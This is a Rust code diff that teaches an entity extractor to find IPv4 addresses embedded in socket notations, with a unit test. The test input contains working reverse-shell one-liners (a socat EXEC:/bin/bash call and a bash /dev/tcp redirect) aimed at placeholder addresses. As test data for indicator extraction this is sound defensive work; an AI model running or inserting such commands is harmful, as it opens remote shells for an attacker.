@@ -445,8 +445,27 @@ impl Entities {
                     .is_some_and(|byte| byte.is_ascii_digit() || byte == b'[')
                     || part.contains(':')
                 {
-                    self.add(EntityKind::Ip, part);
+                    if !self.add(EntityKind::Ip, part) {
+                        self.add_embedded_ipv4(part);
+                    }
+                } else if part.contains('/') {
+                    // `/dev/tcp/203.0.113.7/4444`, `tcp/203.0.113.7`.
+                    self.add_embedded_ipv4(part);
                 }
+            }
+        }
+    }
+
+    /// The IPv4 addresses inside a token that is not one as a whole: `TCP:203.0.113.7:4444`
+    /// (socat), `/dev/tcp/203.0.113.7/4444` (bash), `ssh://user@…` handled elsewhere.
+    fn add_embedded_ipv4(&mut self, token: &str) {
+        for piece in token.split([':', '/']) {
+            let dotted_quad = piece.contains('.')
+                && piece
+                    .bytes()
+                    .all(|byte| byte.is_ascii_digit() || byte == b'.');
+            if dotted_quad {
+                self.add(EntityKind::Ip, piece);
             }
         }
     }
@@ -629,6 +648,19 @@ mod tests {
             !found.iter().any(|entity| entity.value.contains("invoice")),
             "{found:?}"
         );
+    }
+
+    #[test]
+    fn addresses_inside_socket_notations_are_found() {
+        let mut entities = Entities::default();
+        entities.sweep(
+            "socat TCP:198.51.100.61:4444 EXEC:/bin/bash; bash -i >& /dev/tcp/203.0.113.77/4444 0>&1; \
+             ncat 192.0.2.9:8443; see /usr/lib/python3.11/x",
+        );
+        for ip in ["198.51.100.61", "203.0.113.77", "192.0.2.9"] {
+            assert!(entities.contains(EntityKind::Ip, ip), "{ip}: {entities:?}");
+        }
+        assert_eq!(entities.len(), 3, "{entities:?}");
     }
 
     #[test]
